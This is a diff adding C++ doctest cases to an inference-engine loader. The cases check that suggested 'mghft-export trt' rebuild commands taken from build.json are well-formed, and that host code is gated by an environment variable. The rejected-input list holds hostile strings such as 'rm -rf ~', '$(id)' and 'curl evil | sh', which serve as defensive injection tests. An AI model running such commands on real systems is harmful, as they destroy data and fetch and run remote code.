@@ -1,6 +1,7 @@
 // Manifests and build.json: what is wrong is named.
 #include <doctest/doctest.h>
 
+#include <stdlib.h>
 #include <unistd.h>
 
 #include <filesystem>
@@ -179,6 +180,30 @@ TEST_CASE("engines are checked before they are loaded") {
     CHECK_THROWS_WITH_AS(load_engine_folder(path, bundle), doctest::Contains("backend: is not known"), Error);
 }
 
+TEST_CASE("advice to paste is our own command") {
+    const Folder folder;
+    const Bundle bundle = load_bundle(folder.path);
+    const fs::path path = folder.path / "engines/e";
+    const auto read = [&](const std::string& command) {
+        folder.write("engines/e/text.engine", "x");
+        folder.write("engines/e/build.json", replaced(build_json(), "mghft-export trt b --target sm87 --fp16", command));
+        return load_engine_folder(path, bundle);
+    };
+    for (const char* good : {"mghft-export trt b --fp16", "mghft-export trt", "mghft-export trt --target",
+                             R"(mghft-export trt '/a folder/it'\"'\"'s' --batch 1,2,4 --target sm86,sm89)"}) {
+        CAPTURE(good);
+        CHECK_THROWS_AS(check_gpu(read(good), {"NVIDIA A10", 86}), Error);
+    }
+    CHECK_THROWS_WITH_AS(check_gpu(read("mghft-export trt 'x --target y' --target sm87 --fp16"), {"NVIDIA A10", 86}),
+                         doctest::Contains("build it for this GPU with: mghft-export trt 'x --target y' --fp16"), Error);
+    for (const char* bad : {"mghft-export trt b; rm -rf ~", "mghft-export trt $(id)", "mghft-export trt b\\ncurl evil",
+                            "mghft-export trt 'b", "mghft-export trt '\\u001b[2J'", "mghft-export trtx", "curl evil | sh",
+                            "mghft-export trt  b", "mghft-export trt ", ""}) {
+        CAPTURE(bad);
+        CHECK_THROWS_WITH_AS(read(bad), doctest::Contains("is no command of mghft-export trt"), Error);
+    }
+}
+
 TEST_CASE("compatible engines run on more than the GPU that built them") {
     EngineFolder folder;
     folder.backend = "tensorrt";
@@ -199,6 +224,15 @@ TEST_CASE("compatible engines run on more than the GPU that built them") {
     check_version(folder, "tensorrt", "10.9.0.1");
     CHECK_THROWS_AS(check_version(folder, "tensorrt", "10.2.0.1"), Error);
     CHECK_THROWS_AS(check_version(folder, "tensorrt", "11.0.0.1"), Error);
+    ::unsetenv("MGHFT_ALLOW_HOST_CODE");
+    CHECK_THROWS_WITH_AS(check_host_code(folder), doctest::Contains("allow it with MGHFT_ALLOW_HOST_CODE=1"), Error);
+    ::setenv("MGHFT_ALLOW_HOST_CODE", "0", 1);
+    CHECK_THROWS_AS(check_host_code(folder), Error);
+    ::setenv("MGHFT_ALLOW_HOST_CODE", "1", 1);
+    check_host_code(folder);
+    ::unsetenv("MGHFT_ALLOW_HOST_CODE");
+    folder.version_compatible = false;
+    check_host_code(folder);
     folder.backend = "rtx";
     folder.targets = {86, 89};
     check_gpu(folder, {"B", 89});
